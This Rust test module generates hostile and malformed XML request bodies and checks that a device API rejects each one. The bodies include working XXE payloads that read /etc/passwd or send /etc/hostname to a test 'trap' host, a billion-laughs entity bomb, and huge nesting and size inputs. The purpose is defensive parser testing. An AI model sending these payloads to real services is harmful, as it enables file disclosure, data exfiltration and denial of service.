//! Attacks by XML that is text: document types, entities, depth, width, size, and all the ways not
//! to be well-formed.

use super::bed::{Bed, CAMERA, PASSWORD, RECORDER};
use super::{MALFORMED, Rows};
use crate::harness::phones::PROJECT;

/// Adds them.
pub fn add(rows: &mut Rows, bed: &Bed) {
    let good = format!(
        "<Request><Devicelist><Gbid>{CAMERA}</Gbid><Name>x</Name><Pwd>{PASSWORD}</Pwd></Devicelist>\
         <ProjectId>{PROJECT}</ProjectId></Request>"
    );
    let named = |name: &str| good.replace("<Name>x</Name>", &format!("<Name>{name}</Name>"));
    document_types(rows, bed, &good, &named);
    references(rows, bed, &named);
    sizes(rows, bed, &good, &named);
    attributes(rows, bed, &good);
    structure(rows, bed, &good, &named);
    every_call(rows, bed);
}

/// Document types, in all forms and places. A body of this API has none.
fn document_types(rows: &mut Rows, bed: &Bed, good: &str, named: &dyn Fn(&str) -> String) {
    let trap = bed.trap();
    let used = |declarations: &str, name: &str| {
        format!("<!DOCTYPE Request [{declarations}]>{}", named(name))
    };
    let mut laughs = "<!ENTITY l0 \"lol\">".to_owned();
    for level in 1..=10 {
        let before = format!("&l{};", level - 1).repeat(10);
        laughs += &format!("<!ENTITY l{level} \"{before}\">");
    }
    let quadratic = format!("<!ENTITY a \"{}\">", "x".repeat(50_000));
    for (what, body) in [
        ("an empty one", format!("<!DOCTYPE Request>{good}")),
        ("in lower case", format!("<!doctype Request>{good}")),
        ("of HTML", format!("<!DOCTYPE html>{good}")),
        ("with an empty subset", format!("<!DOCTYPE Request []>{good}")),
        ("behind the declaration", format!("<?xml version=\"1.0\"?><!DOCTYPE Request>{good}")),
        ("behind a comment", format!("<!-- a --><!DOCTYPE Request>{good}")),
        ("behind an instruction", format!("<?a b?>\n<!DOCTYPE Request>{good}")),
        ("behind a byte order mark", format!("\u{feff}<!DOCTYPE Request>{good}")),
        ("behind the document", format!("{good}<!DOCTYPE Request>")),
        ("within the document", good.replace("<ProjectId>", "<!DOCTYPE a><ProjectId>")),
        ("that does not end", format!("<!DOCTYPE Request [ {good}")),
        ("two of them", format!("<!DOCTYPE Request><!DOCTYPE Request>{good}")),
        (
            "SYSTEM, at another server",
            format!("<!DOCTYPE Request SYSTEM \"http://{trap}/a.dtd\">{good}"),
        ),
        (
            "PUBLIC, at another server",
            format!("<!DOCTYPE Request PUBLIC \"-//A//B\" \"http://{trap}/b.dtd\">{good}"),
        ),
        ("SYSTEM, by FTP", format!("<!DOCTYPE Request SYSTEM \"ftp://{trap}/a.dtd\">{good}")),
        ("SYSTEM, a file", format!("<!DOCTYPE Request SYSTEM \"file:///etc/passwd\">{good}")),
        ("an internal entity that is used", used("<!ENTITY a \"b\">", "&a;")),
        ("an internal entity that is not used", used("<!ENTITY a \"b\">", "a")),
        ("an entity in an entity", used("<!ENTITY a \"b\"><!ENTITY c \"&a;&a;\">", "&c;")),
        ("an entity that is itself", used("<!ENTITY a \"&a;\">", "&a;")),
        ("two entities that are each other", used("<!ENTITY a \"&b;\"><!ENTITY b \"&a;\">", "&a;")),
        (
            "an external entity at another server",
            used(&format!("<!ENTITY a SYSTEM \"http://{trap}/a\">"), "&a;"),
        ),
        (
            "an external entity over TLS",
            used(&format!("<!ENTITY a SYSTEM \"https://{trap}/a\">"), "&a;"),
        ),
        ("an external entity of a file", used("<!ENTITY a SYSTEM \"file:///etc/passwd\">", "&a;")),
        ("an external entity of a device", used("<!ENTITY a SYSTEM \"/dev/zero\">", "&a;")),
        (
            "an external entity that is not used",
            used(&format!("<!ENTITY a PUBLIC \"b\" \"http://{trap}/a\">"), "a"),
        ),
        (
            "a parameter entity at another server",
            used(&format!("<!ENTITY % a SYSTEM \"http://{trap}/a\"> %a;"), "a"),
        ),
        ("an internal parameter entity", used("<!ENTITY % a \"<!ENTITY b 'c'>\"> %a;", "&b;")),
        (
            "a parameter entity that carries a file away",
            used(
                &format!(
                    "<!ENTITY % a SYSTEM \"file:///etc/hostname\">\
                     <!ENTITY % b \"<!ENTITY c SYSTEM 'http://{trap}/?%a;'>\"> %b;"
                ),
                "&c;",
            ),
        ),
        (
            "an unparsed entity",
            used("<!NOTATION n SYSTEM \"n\"><!ENTITY a SYSTEM \"a\" NDATA n>", "a"),
        ),
        ("an element's declaration", used("<!ELEMENT Request ANY>", "a")),
        ("an attribute with a default", used("<!ATTLIST Request a CDATA \"b\">", "a")),
        ("a billion laughs", used(&laughs, "&l10;")),
        ("a billion laughs that nobody asks for", used(&laughs, "a")),
        ("quadratic growth", used(&quadratic, &"&a;".repeat(20_000))),
    ] {
        rows.add(format!("document type: {what}"), bed.update(body), MALFORMED);
    }
}

/// References to what is none.
fn references(rows: &mut Rows, bed: &Bed, named: &dyn Fn(&str) -> String) {
    for (what, name) in [
        ("an entity that was not declared", "&a;"),
        ("an entity of HTML", "&nbsp;"),
        ("a bare ampersand", "a & b"),
        ("no semicolon", "&amp"),
        ("no name", "&;"),
        ("no digits", "&#;"),
        ("no hexadecimal digits", "&#x;"),
        ("letters for digits", "&#a;"),
        ("other letters than hexadecimal ones", "&#xG1;"),
        ("a negative number", "&#-1;"),
        ("NUL", "&#0;"),
        ("a control character", "&#1;"),
        ("a control character in hexadecimal", "&#x1F;"),
        ("half of a pair", "&#xD800;"),
        ("what is no character", "&#xFFFE;"),
        ("beyond Unicode", "&#x110000;"),
        ("beyond 32 bits", "&#4294967361;"),
        ("beyond 64 bits", "&#99999999999999999999;"),
        ("a parameter entity", "%a;&a;"),
    ] {
        rows.add(format!("reference: {what}"), bed.update(named(name)), MALFORMED);
    }
}

/// Depth, width and length.
fn sizes(rows: &mut Rows, bed: &Bed, good: &str, named: &dyn Fn(&str) -> String) {
    let nested = |depth: usize| format!("{}{}", "<a>".repeat(depth), "</a>".repeat(depth));
    let within = |what: &str| good.replace("<ProjectId>", &format!("{what}<ProjectId>"));
    for (what, body) in [
        ("20 elements deep", within(&nested(20))),
        ("1,000 elements deep", within(&nested(1_000))),
        ("100,000 elements deep", within(&nested(100_000))),
        ("100,000 elements deep and unfinished", "<Request>".repeat(100_000)),
        ("deep in the name", named(&nested(500))),
        ("deep by other names", within(&"<Request><Devicelist>".repeat(5_000))),
        ("100,000 elements wide", within(&"<a/>".repeat(100_000))),
        ("100,000 devices", within(&"<Devicelist/>".repeat(70_000))),
        ("100,000 comments", within(&"<!---->".repeat(100_000))),
        ("100,000 instructions", within(&"<?a?>".repeat(100_000))),
        ("a text of 900,000 bytes", named(&"x".repeat(900_000))),
        (
            "a text of 900,000 bytes in CDATA",
            named(&format!("<![CDATA[{}]]>", "x".repeat(900_000))),
        ),
        ("a text of 100,000 references", named(&"&#120;".repeat(100_000))),
        ("an element's name of 900,000 bytes", within(&format!("<{}", "a".repeat(900_000)))),
        (
            "a tag that does not end in 900,000 bytes",
            within(&format!("<a {}", " ".repeat(900_000))),
        ),
    ] {
        rows.add(format!("size: {what}"), bed.update(body), MALFORMED);
    }
    let long = named(&"x".repeat((1 << 20) + 1));
    let over = super::Call(400, "MaxMessageLengthExceeded");
    rows.add("size: a body of more than 1 MB", bed.update(long), over);
    let long = format!("<Request>{}", "<!-- -->".repeat(500_000));
    rows.add("size: a body of 4 MB of comments", bed.update(long), over);
}

/// Attributes, of which this API has none.
fn attributes(rows: &mut Rows, bed: &Bed, good: &str) {
    let with = |attributes: &str| good.replacen("<Request>", &format!("<Request {attributes}>"), 1);
    let many = |count: usize| {
        let attributes: Vec<String> = (0..count).map(|n| format!("a{n}=\"\"")).collect();
        with(&attributes.join(" "))
    };
    for (what, body) in [
        ("two of the same name", with("a=\"1\" a=\"2\"")),
        ("no quotes", with("a=1")),
        ("no value", with("a")),
        ("no value behind the sign", with("a=")),
        ("no space between", with("a=\"1\"b=\"2\"")),
        ("a quote that does not end", with("a=\"1")),
        ("other quotes at the end", with("a=\"1'")),
        ("a tag in the value", with("a=\"<b>\"")),
        ("an ampersand in the value", with("a=\"b & c\"")),
        ("a name of digits", with("1=\"2\"")),
        ("on a closing tag", good.replace("</Request>", "</Request a=\"1\">")),
        ("1,000 of them", many(1_000)),
        ("50,000 of them", many(50_000)),
        (
            "two of the same name by namespaces",
            with("xmlns:a=\"u\" xmlns:b=\"u\" a:c=\"\" b:c=\"\""),
        ),
        ("a namespace that was not declared", with("a:b=\"c\"")),
        ("the namespace xml for something else", with("xmlns:xml=\"u\"")),
        ("100,000 namespaces", with(&"xmlns:a=\"u\" ".repeat(50_000))),
    ] {
        rows.add(format!("attribute: {what}"), bed.update(body), MALFORMED);
    }
}

/// Everything else that well-formed XML can't be.
fn structure(rows: &mut Rows, bed: &Bed, good: &str, named: &dyn Fn(&str) -> String) {
    let half = good.len() / 2;
    for (what, body) in [
        ("blanks", " \r\n\t".to_owned()),
        ("words", "Request".to_owned()),
        ("JSON", "{\"Request\":{}}".to_owned()),
        ("a form", "Gbid=1&Name=2".to_owned()),
        ("a comment alone", "<!-- a -->".to_owned()),
        ("a declaration alone", "<?xml version=\"1.0\"?>".to_owned()),
        ("another outermost element", good.replace("Request>", "Response>")),
        ("two outermost elements", format!("{good}{good}")),
        ("an empty element behind the outermost", format!("{good}<a/>")),
        ("words before the outermost element", format!("a{good}")),
        ("words behind the outermost element", format!("{good}a")),
        ("CDATA behind the outermost element", format!("{good}<![CDATA[ ]]>")),
        ("the second half", good[half..].to_owned()),
        ("the first half", good[..half].to_owned()),
        ("cut off in the last tag", good[..good.len() - 1].to_owned()),
        ("an outermost element that does not end", good.replace("</Request>", "")),
        ("an element that does not end", good.replace("</Gbid>", "")),
        ("an element that does not begin", good.replace("<Gbid>", "")),
        (
            "elements that end in other order",
            good.replace("</Pwd></Devicelist>", "</Devicelist></Pwd>"),
        ),
        ("an end in other case", good.replace("</Gbid>", "</gbid>")),
        ("an empty tag", named("<>")),
        ("an empty end", named("</>")),
        ("a blank before a name", good.replace("<Gbid>", "< Gbid>")),
        ("a blank before an end's name", good.replace("</Gbid>", "</ Gbid>")),
        ("a name that begins with a digit", named("<1a/>")),
        ("a name that begins with a hyphen", named("<-a/>")),
        ("a name with two colons", named("<a:b:c/>")),
        ("a prefix that was not declared", named("<a:b/>")),
        ("a bare less-than", named("a < b")),
        ("a comment that does not end", named("<!-- a")),
        ("two hyphens in a comment", named("<!-- a -- b -->")),
        ("three hyphens at a comment's end", named("<!-- a --->")),
        ("CDATA that does not end", named("<![CDATA[a")),
        ("CDATA in lower case", named("<![cdata[a]]>")),
        ("CDATA's end alone", named("a]]>b")),
        ("CDATA in CDATA", named("<![CDATA[a<![CDATA[b]]>c]]>")),
        ("an instruction that does not end", named("<?a b")),
        ("an instruction without a name", named("<? a ?>")),
        ("a declaration within", named("<?xml version=\"1.0\"?>")),
        ("a declaration behind a blank", format!(" <?xml version=\"1.0\"?>{good}")),
        ("two declarations", format!("<?xml version=\"1.0\"?><?xml version=\"1.0\"?>{good}")),
        ("a declaration without a version", format!("<?xml encoding=\"utf-8\"?>{good}")),
        ("a declaration that does not end", format!("<?xml version=\"1.0\"{good}")),
        ("a conditional section", named("<![INCLUDE[a]]>")),
        ("an entity's declaration within", named("<!ENTITY a \"b\">")),
    ] {
        rows.add(format!("structure: {what}"), bed.update(body), MALFORMED);
    }
}

/// The same reader stands behind every call that takes a body.
fn every_call(rows: &mut Rows, bed: &Bed) {
    let trap = bed.trap();
    for (method, target) in [
        ("PUT", "/device?transport"),
        ("POST", "/device"),
        ("DELETE", "/device"),
        ("POST", "/organization"),
    ] {
        let entity = format!(
            "<!DOCTYPE Request [<!ENTITY a SYSTEM \"http://{trap}/a\">]>\
             <Request><Devicelist><Gbid>{RECORDER}</Gbid><Name>&a;</Name></Devicelist>\
             <ProjectId>{PROJECT}</ProjectId></Request>"
        );
        let call = format!("{method} {target}");
        rows.add(
            format!("{call}: an external entity"),
            bed.with_body(method, target, entity),
            MALFORMED,
        );
        let unfinished = format!("<Request><ProjectId>{PROJECT}</ProjectId>");
        rows.add(
            format!("{call}: an outermost element that does not end"),
            bed.with_body(method, target, unfinished),
            MALFORMED,
        );
        let mut utf16 = b"\xff\xfe".to_vec();
        utf16.extend("<Request/>".encode_utf16().flat_map(u16::to_le_bytes));
        rows.add(format!("{call}: UTF-16"), bed.with_body(method, target, utf16), MALFORMED);
    }
}
